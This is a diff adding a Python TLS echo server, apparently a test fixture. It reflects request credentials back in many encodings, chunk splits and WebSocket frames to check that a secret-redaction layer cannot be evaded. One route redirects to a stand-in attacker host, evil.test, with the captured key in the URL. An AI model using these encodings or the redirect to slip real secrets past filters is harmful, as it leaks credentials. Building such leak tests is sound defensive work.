@@ -1,0 +1,128 @@
+"""A server that says back what it was asked, in many coats: what a secret must not be seen through."""
+import base64
+import gzip
+import hashlib
+import json
+import re
+import threading
+import urllib.parse
+
+COATS = {
+    "raw": lambda t: t,
+    "base64": lambda t: base64.b64encode(t.encode()).decode(),
+    "urlsafe": lambda t: base64.urlsafe_b64encode(t.encode()).decode(),
+    "mime": lambda t: base64.encodebytes(t.encode()).decode(),
+    "shifted": lambda t: base64.b64encode(b"x" + t.encode()).decode(),
+    "percent": lambda t: urllib.parse.quote(t, safe=""),
+    "all-percent": lambda t: "".join(f"%{b:02x}" for b in t.encode()),
+    "json": lambda t: json.dumps({"head": t}),
+    "unicode": lambda t: "".join(f"\\u{ord(c):04x}" for c in t),
+    "html": lambda t: "".join(f"&#{ord(c)};" for c in t),
+    "hex": lambda t: t.encode().hex(),
+}
+
+
+class Echo:
+    """Requests that came are in `seen`: (head, body)."""
+
+    def __init__(self):
+        self.seen, self.stored, self.go = [], "", threading.Event()
+
+    def __call__(self, s):
+        with s.makefile("rb") as f:
+            while head := self.read_head(f):
+                body = b"" if "/lazy" in head.split()[1] else self.read_body(f, head)  # what it has no use for stays
+                self.seen.append((head, body))
+                if not self.answer(s, f, head, body):
+                    return
+
+    @staticmethod
+    def read_head(f):
+        lines = []
+        while line := f.readline():
+            if line == b"\r\n":
+                return b"".join(lines).decode()
+            lines.append(line)
+        return None
+
+    @staticmethod
+    def read_body(f, head):
+        if re.search(r"(?im)^transfer-encoding: chunked", head):
+            body = b""
+            while size := int(f.readline(), 16):
+                body += f.read(size)
+                f.readline()
+            f.readline()
+            return body
+        length = re.search(r"(?im)^content-length: (\d+)", head)
+        return f.read(int(length[1])) if length else b""
+
+    @staticmethod
+    def say(s, body, more="", status="200 OK"):
+        s.sendall(f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n{more}\r\n".encode() + body)
+        return True
+
+    @staticmethod
+    def chunk(s, piece):
+        s.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
+
+    def answer(self, s, f, head, body):
+        what = head.split()[1].split("?")[0].rsplit("/", 1)[-1]
+        carried = (re.search(r"(?im)^(?:authorization|x-api-key): (.*)\r$", head) or ["", ""])[1]
+        if what in COATS:
+            return self.say(s, COATS[what](head).encode(), f"X-Echo: {carried}\r\n{carried}: x\r\n" if " " not in carried else "")
+        if what == "chunks":
+            s.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
+            for c in head.encode():
+                self.chunk(s, bytes([c]))
+            s.sendall(f"0\r\nX-Trailer: {carried}\r\n\r\n".encode())
+            return True
+        if what == "gzip":
+            return self.say(s, gzip.compress(head.encode()), "Content-Encoding: gzip\r\n")
+        if what == "redirect":
+            return self.say(s, b"", f"Location: https://evil.test/?k={urllib.parse.quote(carried)}\r\n", f"302 {carried}")
+        if what == "store":
+            self.stored = carried
+            return self.say(s, b"stored")
+        if what == "stored":
+            return self.say(s, self.stored.encode())
+        if what == "events":
+            s.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
+            self.chunk(s, b"data: one\n\n")
+            self.go.wait(60)
+            self.chunk(s, b"data: two " + carried.encode() + b"\n\n")
+            s.sendall(b"0\r\n\r\n")
+            return True
+        if what == "go":
+            self.go.set()
+            return self.say(s, b"")
+        if what == "back":  # what it was told, as many servers do with this field
+            number = re.search(r"(?im)^x-request-id: (.*)\r$", head)[1]
+            return self.say(s, body, f"X-Request-Id: {number}\r\n")
+        if what == "lazy":
+            return self.say(s, b"ok")
+        if what == "sum":
+            return self.say(s, f"{len(body)} {hashlib.sha256(body).hexdigest()}".encode())
+        if what == "close":  # an answer that ends with the connection
+            s.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + head.encode())
+            return False
+        if what == "ws":
+            accept = re.search(r"(?im)^sec-websocket-key: (.*)\r$", head)[1] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
+            accept = base64.b64encode(hashlib.sha1(accept.encode()).digest()).decode()
+            s.sendall(f"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: {accept}\r\n"
+                      "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode())
+            told = carried.encode()  # in two frames, the border in the middle of the secret
+            s.sendall(bytes([0x01, 20]) + told[:20] + bytes([0x80, len(told) - 20]) + told[20:])
+            start = f.read(2)
+            mask, said = f.read(4), f.read(start[1] & 127)
+            s.sendall(bytes([0x81, len(said)]) + bytes(b ^ mask[i % 4] for i, b in enumerate(said)))
+            return False
+        return self.say(s, b"what?", status="404 Not Found")
+
+
+def serve(world, address, port, echo, context=None):
+    def handle(s):
+        with (context or world.context).wrap_socket(s, server_side=True) as tls:
+            echo(tls)
+            tls.unwrap()  # an end that is told: else the answer might have been cut
+    return world.serve_each(address, port, handle)
